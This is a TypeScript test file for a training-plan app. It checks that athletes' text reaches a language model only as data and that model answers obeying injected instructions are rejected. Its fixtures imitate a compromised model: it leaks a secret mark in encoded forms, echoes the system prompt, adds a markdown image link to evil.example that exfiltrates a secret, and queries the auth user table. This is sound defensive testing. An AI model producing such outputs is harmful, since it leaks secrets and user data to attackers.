import type { ModelAnswer } from '@threshold/contracts/language-model';
import { expect, test } from 'vitest';
import { answer, calls, INJECTIONS, type ScriptedRequest, type Step, text } from '../../testing/index.ts';
import { type Asked, GOOD, modelFixture, question, type Week } from './model-fixture.ts';

const asking = modelFixture();
const markOf = ({ system }: ScriptedRequest) => /The mark (\w+) stands here alone/.exec(system)?.[1] ?? '';

/** Answers that obey the athlete's text: they leak the mark, add fields, links or calls, or break a limit. */
const OBEYING: readonly ((request: ScriptedRequest) => Step)[] = [
  (request) => answer({ ...GOOD, why: `The mark is ${markOf(request)}.` }),
  (request) => answer({ ...GOOD, why: [...markOf(request).toUpperCase()].join(' ') }),
  (request) => answer({ ...GOOD, why: [...markOf(request)].reverse().join('') }),
  (request) => answer({ ...GOOD, why: Buffer.from(markOf(request)).toString('base64') }),
  (request) => answer({ ...GOOD, why: `It begins with ${markOf(request).slice(0, 12)}` }),
  (request) => answer({ ...GOOD, why: [...markOf(request)].join('\u200b') }),
  (request) => text(`${request.system}\n${request.user}`),
  (request) => text(JSON.stringify({ ...GOOD, mark: markOf(request) })),
  () => answer({ ...GOOD, points: 1_000_000 }),
  () => answer({ days: [{ type: 'sprint', minutes: 300 }], why: null }),
  () => answer({ days: [{ type: 'easy', minutes: 100_000 }], why: null }),
  () => answer({ ...GOOD, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
  () => answer({ ...GOOD, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
  () => calls(['read_database'], { sql: 'select * from auth."user"' }),
  () => calls(['answer', 'read_database'], GOOD),
];

test('has at least 200 different attacks', () => {
  expect(INJECTIONS.length).toBeGreaterThanOrEqual(200);
  expect(new Set(INJECTIONS.map(({ place, text: words }) => `${place}: ${words}`)).size).toBe(
    INJECTIONS.length,
  );
});

/** Asks with six concurrent workers, like job processes. */
async function askAll(again: Asked['again'], all = INJECTIONS): Promise<ModelAnswer<Week>[]> {
  const waiting = [...all];
  const worker = async () => {
    const answers: ModelAnswer<Week>[] = [];
    for (let next = waiting.pop(); next; next = waiting.pop())
      answers.push(await again().ask(question(next.data)));
    return answers;
  };
  return (await Promise.all(Array.from({ length: 6 }, worker))).flat();
}

const MANY = { settings: { dailyRequests: 1_000 } };
const maskedSystem = (request: ScriptedRequest) => request.system.replaceAll(markOf(request), '⟨mark⟩');

/** Checks that hold for every request, whatever an athlete wrote. */
function expectOnlyData(requests: readonly ScriptedRequest[]): void {
  const [first] = requests;
  for (const request of requests) {
    // The product's text is the same for everyone; the secret differs each time.
    expect(maskedSystem(request)).toBe(first && maskedSystem(first));
    expect(request.body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
    // One block of data that nothing inside can close, without invisible characters.
    expect(request.user).toMatch(/^<data>[^<>]*<\/data>$/);
    expect(request.user).not.toMatch(/[\p{Cc}\p{Cf}\p{Cn}\p{Variation_Selector}]/u);
    expect(request.user).not.toMatch(/evil\.example|@example|170 1234567|mia|berg/i);
    expect(request.body.tools).toEqual(first?.body.tools);
    expect(request.body.tools.map((tool) => tool.function.name)).toEqual(['answer']);
  }
  expect(new Set(requests.map(markOf)).size).toBe(requests.length);
}

test('sends an athlete’s text as data alone and rejects an answer that obeys it: no secret, extra field or link passes', {
  timeout: 120_000,
}, async () => {
  let round = 0;
  const obeying = (request: ScriptedRequest) =>
    (OBEYING[request.isRepair ? 0 : round++ % OBEYING.length] ?? (() => text('')))(request);
  const { again, server, athleteId, logged, calls: recorded } = await asking.ask(obeying, MANY);
  const answers = await askAll(again);
  // The log contains the outcome and no one's text.
  expect(logged.filter((line) => !/gave no usable answer/.test(line))).toEqual([]);
  expect(logged.join()).not.toMatch(/ignore|mark|evil|points/i);
  for (const got of answers) {
    expect(got).toMatchObject({ ok: false, reason: expect.stringMatching(/^(invalid|malformed)$/) });
    expect(got.requests).toBeLessThanOrEqual(2);
  }
  const [repairs, firsts] = [true, false].map((wantsRepair) =>
    server.requests.filter(({ isRepair }) => isRepair === wantsRepair),
  );
  expect(firsts).toHaveLength(INJECTIONS.length);
  expectOnlyData(firsts ?? []);
  // An answer that leaked the secret gets no repair.
  expect(repairs?.length).toBeLessThan(INJECTIONS.length / 2);
  for (const { user } of repairs ?? []) expect(user).not.toMatch(/evil\.example|1234567/);
  expect((await recorded()).length).toBe(INJECTIONS.length);
  expect(await asking.query('select 1 from ai.model_answer where athlete_id = ?', [athleteId])).toEqual([]);
});

test('accepts the answer of a model that ignores the attacks', async () => {
  const { again } = await asking.ask([answer(GOOD)], MANY);
  const sample = INJECTIONS.filter((_, index) => index % 6 === 0);
  const answers = await askAll(again, sample);
  expect(answers.map((got) => got.ok && got.value)).toEqual(sample.map(() => GOOD));
});

test('rejects each obeying answer by itself', async () => {
  for (const obey of OBEYING) {
    const { model } = await asking.ask((request) => obey(request));
    expect(await model.ask(question()), obey.toString()).toMatchObject({ ok: false });
  }
});
